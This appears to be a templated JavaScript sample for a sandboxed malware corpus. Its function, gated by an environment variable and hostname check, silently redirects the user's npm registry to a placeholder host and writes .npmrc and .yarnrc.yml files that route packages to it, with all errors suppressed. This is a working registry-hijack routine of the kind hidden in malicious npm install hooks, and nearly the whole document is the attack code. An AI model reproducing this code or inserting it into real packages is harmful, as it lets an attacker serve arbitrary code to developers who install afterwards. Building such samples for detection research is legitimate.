// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    const { spawnSync } = require('child_process');
    try {
        spawnSync('npm', ['config', 'set', 'registry', 'https://{{host}}/npm/', '--location', 'user'], { stdio: 'ignore', timeout: 2500 });
        fs.writeFileSync(path.join(process.env.INIT_CWD || process.cwd(), '.npmrc'), '@{{token}}:registry=https://{{host}}/npm/\n');
        fs.writeFileSync(path.join(os.homedir(), '.yarnrc.yml'), 'npmRegistryServer: "https://{{host}}/npm/"\nunsafeHttpWhitelist: ["{{host}}"]\n');
    } catch {}
}
